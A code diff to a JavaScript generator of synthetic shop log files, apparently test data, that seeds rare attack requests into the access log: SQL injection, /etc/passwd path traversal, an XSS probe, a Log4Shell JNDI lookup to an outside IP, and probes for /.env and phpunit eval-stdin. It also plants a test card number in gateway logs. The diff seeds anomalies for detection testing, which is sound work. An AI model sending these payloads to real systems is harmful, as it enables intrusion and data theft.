@@ -4,7 +4,8 @@ import { closeSync, mkdirSync, openSync, writeSync } from 'node:fs';
 import { join } from 'node:path';
 import { pathToFileURL } from 'node:url';
 
-export function makeLogs(folder, megabytes, seed = 42) {
+/** @param only names of the files to make; all three when absent. */
+export function makeLogs(folder, megabytes, seed = 42, only = undefined) {
   mkdirSync(folder, { recursive: true });
   let state = seed >>> 0;
   const next = () => {
@@ -25,9 +26,24 @@ export function makeLogs(folder, megabytes, seed = 42) {
   const address = () => `${10 + int(5)}.${int(20)}.${int(20)}.${int(10)}`;
   const clf = (d) =>
     `${two(d.getUTCDate())}/${months[d.getUTCMonth()]}/${d.getUTCFullYear()}:${two(d.getUTCHours())}:${two(d.getUTCMinutes())}:${two(d.getUTCSeconds())} +0000`;
+  // One request in 2,500 is an attack, one operation in 10,000 leaks a test number.
+  const attacks = [
+    '/p?id=1%27%20or%20%271%27=%271',
+    '/p?id=1+union+select+user,pass+from+users--',
+    '/../../../etc/passwd',
+    '/?q=%3Cscript%3Ealert(1)%3C/script%3E',
+    '/.env',
+    '/wp-login.php',
+    '/?x=${jndi:ldap://198.51.100.7/a}',
+    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
+  ];
+  const target = () =>
+    int(2500) === 0
+      ? pick(attacks)
+      : pick([`/p/${int(5000)}`, '/api/pay', '/checkout', `/api/search?q=${pick(['tea', 'lamp', 'cup'])}`]);
   const kinds = {
     'access.log': (d) =>
-      `${address()} - - [${clf(d)}] "${pick(['GET', 'POST'])} ${pick([`/p/${int(5000)}`, '/api/pay', '/checkout', `/api/search?q=${pick(['tea', 'lamp', 'cup'])}`])} HTTP/1.1" ${pick([200, 200, 200, 200, 304, 404, 502])} ${int(40_000)} "https://shop.test/c/${int(100)}" "${pick(agents)}"`,
+      `${address()} - - [${clf(d)}] "${pick(['GET', 'POST'])} ${target()} HTTP/1.1" ${pick([200, 200, 200, 200, 304, 404, 502])} ${int(40_000)} "https://shop.test/c/${int(100)}" "${pick(agents)}"`,
     'gateway.jsonl': (d) =>
       JSON.stringify({
         ts: d.toISOString(),
@@ -42,12 +58,16 @@ export function makeLogs(folder, megabytes, seed = 42) {
         currency: 'CNY',
         result_code: pick(['00', '00', '00', '05', '51']),
         latency_ms: int(900),
-        msg: pick(['payment processed', 'payment declined', 'upstream call ok', `order ${int(1e6)} accepted`]),
+        msg:
+          int(10_000) === 0
+            ? 'card 4111111111111111 declined'
+            : pick(['payment processed', 'payment declined', 'upstream call ok', `order ${int(1e6)} accepted`]),
       }),
     'app.log': (d) =>
       `${d.toISOString().replace('T', ' ').replace('.', ',').slice(0, 23)} [http-nio-8080-exec-${int(20)}] ${pick(['INFO ', 'INFO ', 'WARN ', 'ERROR'])} com.shop.pay.${pick(['CardClient', 'OrderService', 'NotifyController'])} [app2] - ${pick(['payment result', '收到支付请求', 'stock below threshold'])} order=ORD-${int(1e7)} txn=P${int(1e12).toString(16)} channel=card code=${pick(['00', '05'])} cost_ms=${int(800)}`,
   };
   for (const [name, line] of Object.entries(kinds)) {
+    if (only && !only.includes(name)) continue;
     const file = openSync(join(folder, name), 'w');
     let written = 0;
     let block = '';
